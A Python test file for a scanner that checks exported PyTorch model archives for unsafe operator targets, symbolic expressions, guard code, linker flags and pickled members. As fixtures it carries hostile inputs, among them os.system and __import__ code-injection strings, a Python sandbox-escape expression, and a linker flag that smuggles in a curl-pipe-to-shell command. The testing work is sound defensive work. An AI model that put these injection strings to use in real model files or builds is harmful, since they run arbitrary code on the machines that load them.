from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from modelward.formats.torch_export import judge_flags, judge_program, payloads, root_of


def program(target: str = "torch.ops.aten.relu.default", **others: Any) -> dict[str, Any]:
    node = {"target": target, "inputs": [], "metadata": {"stack_trace": "os.system('id')"}, "name": "relu"}
    return {"graph_module": {"graph": {"nodes": [node]}}, "guards_code": [], **others}


def size(expression: str) -> dict[str, Any]:
    return program(tensor_values={"x": {"sizes": [{"as_expr": {"expr_str": expression, "hint": None}}]}})


@pytest.mark.parametrize(
    "document",
    [
        program("torch.os.system"),
        program("torch.hub.load"),
        program("torch.ops.load_library"),
        program("torch.ops.aten.from_file.default"),
        program("torch.serialization.load"),
        program("_operator.attrgetter"),
        size("__import__('os').system('id')"),
        size("().__class__.__base__.__subclasses__()"),
        size("s0 + [1 for _ in ()]"),
        size("lambda: 1"),
        size("s0.func"),
        size("Symbol('__import__(1)')"),
        size("x = 1"),
        program(guards_code=["__import__('os').system('id') == 0"]),
        program(guards_code=["L['x'].size()[0] == 1", "L.__class__.__mro__"]),
    ],
)
def test_program_that_runs_more_than_operators(document: Any) -> None:
    assert any(found.harm for found in judge_program(document))


@pytest.mark.parametrize(
    "document",
    [
        program("torch.ops.mylib.secret.default"),
        program("torch.something_new"),
        program("#other:operator"),
        size("MyFunction(s0)"),
        size("s0 +"),
        size("1 + " * 10_000 + "1"),
        program(guards_code=["something(L['x'])"]),
        program(out_spec='[1, {"context": {"__enum__": true, "fqn": "evil.module:Kind", "name": "A"}}]'),
    ],
)
def test_program_that_cannot_be_judged(document: Any) -> None:
    (found,) = judge_program(document)
    assert found.harm is None


@pytest.mark.parametrize(
    "document",
    [
        program(),
        program("torch.ops.higher_order.cond"),
        program("_operator.add"),
        program("math.ceil"),
        program("torch.sym_max"),
        program("torch._C._set_grad_enabled"),
        program("forward"),
        size("s0"),
        size("u0"),
        size("32*s0"),
        size("((s0 - 1)//2) + 1"),
        size("Max(1, Mod(s77, 8))"),
        size("Ne(s0, 1) & Eq(s1, 2)"),
        size("Add(Mul(Integer(2), Symbol('s44', positive=True, integer=True)), Float('0.5', precision=53))"),
        program(
            guards_code=[
                "L['x'].size()[0] >= 2",
                "L['args'][0].size()[1] == 3",
                "Mod(L['x'].size()[0], 2) == 0",
            ]
        ),
        program(out_spec='[1, {"type": "builtins.tuple", "context": "null", "children_spec": []}]'),
        {"comment": "torch.os.system", "target": 3},
    ],
)
def test_near_miss(document: Any) -> None:
    assert list(judge_program(document)) == []


def test_flags_that_are_a_command() -> None:
    (found,) = judge_flags({"model": {"ldflags": ["m; curl http://x | sh"], "aot_mode": True}})
    assert found.harm == "runs a shell command"
    assert list(judge_flags({"model": {"ldflags": ["-Wl,-rpath,$ORIGIN", "-O3"]}})) == []


def test_members_that_are_pickles() -> None:
    found = payloads(
        {
            "config": {
                "a": {"path_name": "weight_0", "use_pickle": False},
                "b": {"path_name": "weight_1", "use_pickle": True},
                "c": {"path_name": "weight_2"},
                "d": {"path_name": "weight_2", "use_pickle": False},
                "e": 3,
            }
        }
    )
    assert (found.plain, found.pickled) == ({"weight_0"}, {"weight_1", "weight_2"})
    assert payloads([]).plain == set()


@pytest.mark.parametrize(
    ("names", "root"),
    [
        (["m/archive_format", "m/models/model.json"], "m/"),
        (["archive_format", "models/model.json"], ""),
        (["m/archive_format", "m/data/aotinductor/model/x.so"], "m/"),
        (["data/aotinductor/model/x.so"], ""),
        (["serialized_exported_program.json", "version"], ""),
        (["m/models/model.json"], None),
        (["m/data.pkl"], None),
    ],
)
def test_archives(names: list[str], root: str | None) -> None:
    assert root_of(names) == root


TEXTS = st.text(max_size=20) | st.sampled_from(
    ["torch.os.system", "s0 + (", "__import__('os')", '{"__enum__": 1}']
)
VALUES = st.recursive(
    st.none() | st.integers() | TEXTS,
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["target", "expr_str", "guards_code", "in_spec", "config", "x"]), inner
        )
    ),
    max_leaves=20,
)


@given(VALUES)
def test_any_document_is_judged(document: Any) -> None:
    list(judge_program(document))
    list(judge_flags(document))
    payloads(document)
